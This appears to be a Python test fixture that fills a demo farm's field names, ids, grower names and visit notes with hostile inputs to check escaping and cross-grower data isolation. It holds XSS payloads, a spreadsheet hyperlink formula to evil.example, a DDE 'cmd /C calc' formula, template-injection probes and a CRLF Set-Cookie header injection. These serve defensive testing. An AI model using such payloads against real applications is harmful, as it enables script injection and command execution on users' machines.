"""The demo's farm with names and ids as bad as a farm's file can hold, each told from the others.

Every field's id holds ``zq07x`` and its name ``Kq07v``, with the number of the field; so does every
note on it. Whoever finds one in an answer to a grower knows whose it is.
"""

import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from pathlib import Path

from farm.records import Visit
from scheduler.demo.write import write_demo_farm
from scheduler.morning import decide_morning
from scheduler.opening import OpenFarm, open_farm
from tests.web.quick_plans import quick

BAD_NAMES = (
    "<img src=x onerror=alert('{0}')>",
    "</script><script>alert('{0}')</script>",
    '"><svg onload=alert("{0}")>',
    "=HYPERLINK('http://evil.example?{0}')",
    "@SUM(1+1)*cmd|' /C calc {0}'!A0",
    "javascript:alert({0})//",
    "{{{{ 7*7 }}}} {0} %s {{0.__class__}}",
    "\u05d0\u05d1\u05d2 {0} \u0627\u0644\u062d\u0642\u0644",
    "{0} " + "w" * 70,
    "a'b\"c`d;e,f {0}",
)
BAD_IDS = ("{0}", "{0} <b>", "{0}&a=b", "{0}#x", "{0}?y", "{0}%2e", "{0}'\"", "{0};=1", "{0}+")
BAD_NOTE = "\r\nSet-Cookie: a=b\x1b[31m<b onclick=alert(1)>{0}"
BAD_GROWERS = {
    "hallock": "<img src=x onerror=alert('Kg1v')>",
    "quillen": "'\"><script>alert('Kg2v')</script>",
    "aldama": "=1+1 Kg3v",
}
TOKEN = re.compile(r"zq(\d\d)x|Kq(\d\d)v|Kg(\d)v")


@dataclass(frozen=True)
class HostileFarm:
    """The farm, open, after a morning; whose field each number is; and the ids by grower."""

    farm: OpenFarm
    grower_of: dict[int, str]
    ids_of: dict[str, tuple[str, ...]]
    visits: tuple[Visit, ...]

    def visit_to(self, field_id: str) -> str:
        """The uuid of a visit to a field; one that nobody has where there is none."""
        uuids = [str(one.uuid) for one in self.visits if one.field_id == field_id]
        return uuids[0] if uuids else "00000000-0000-4000-8000-000000000000"

    def strangers(self, text: str, grower_id: str) -> set[str]:
        """What a text tells of growers other than one."""
        growers = tuple(BAD_GROWERS)
        found = set()
        for match in TOKEN.finditer(text):
            by_id, by_name, by_grower = match.groups()
            owner = growers[int(by_grower) - 1] if by_grower else None
            owner = owner or self.grower_of[int(by_id or by_name)]
            if owner != grower_id:
                found.add(match.group())
        for visit in self.visits:
            owner = self.farm.fields_by_id[visit.field_id].grower_id
            if owner != grower_id and str(visit.uuid) in text:
                found.add(str(visit.uuid))
        return found


@contextmanager
def hostile_farm(folder: Path) -> Iterator[HostileFarm]:
    """Write the farm, and run its morning."""
    written = write_demo_farm(folder)
    quick(folder)
    with open_farm(written.config_path) as plain:
        farm, new_ids = _renamed(plain)
        visits = tuple(
            one.model_copy(
                update={
                    "field_id": new_ids[one.field_id],
                    "note": BAD_NOTE.format(_name_token(new_ids[one.field_id])),
                }
            )
            for one in written.visits
        )
        farm.stores.visits.add(visits, farm.now)
        for spray in written.sprays:
            moved = spray.model_copy(update={"field_id": new_ids[spray.field_id]})
            farm.stores.sprays.add(moved, farm.now)
        run = decide_morning(farm.config, farm.stores, farm.now)
        farm.stores.plans.keep(run.report, run.inputs)
        ids_of = {
            grower: tuple(one.id for one in farm.config.fields if one.grower_id == grower)
            for grower in BAD_GROWERS
        }
        owners = {number: one.grower_id for number, one in enumerate(farm.config.fields)}
        yield HostileFarm(farm, owners, ids_of, visits)


def _renamed(farm: OpenFarm) -> tuple[OpenFarm, dict[str, str]]:
    config = farm.config
    new_ids, fields = {}, []
    for number, one in enumerate(config.fields):
        new_ids[one.id] = BAD_IDS[number % len(BAD_IDS)].format(f"zq{number:02d}x")
        name = BAD_NAMES[number % len(BAD_NAMES)].format(f"Kq{number:02d}v")[:80]
        fields.append(one.model_copy(update={"id": new_ids[one.id], "name": name}))
    growers = tuple(
        one.model_copy(update={"name": BAD_GROWERS[one.id]}) for one in config.settings.growers
    )
    settings = config.settings.model_copy(update={"growers": growers})
    changed = replace(
        config,
        fields=tuple(fields),
        settings=settings,
        rules={new_ids[old]: told for old, told in config.rules.items()},
        tellers={new_ids[old]: told for old, told in config.tellers.items()},
    )
    return replace(farm, config=changed), new_ids


def _name_token(field_id: str) -> str:
    number = TOKEN.search(field_id)
    assert number is not None
    return f"Kq{number.group(1)}v"
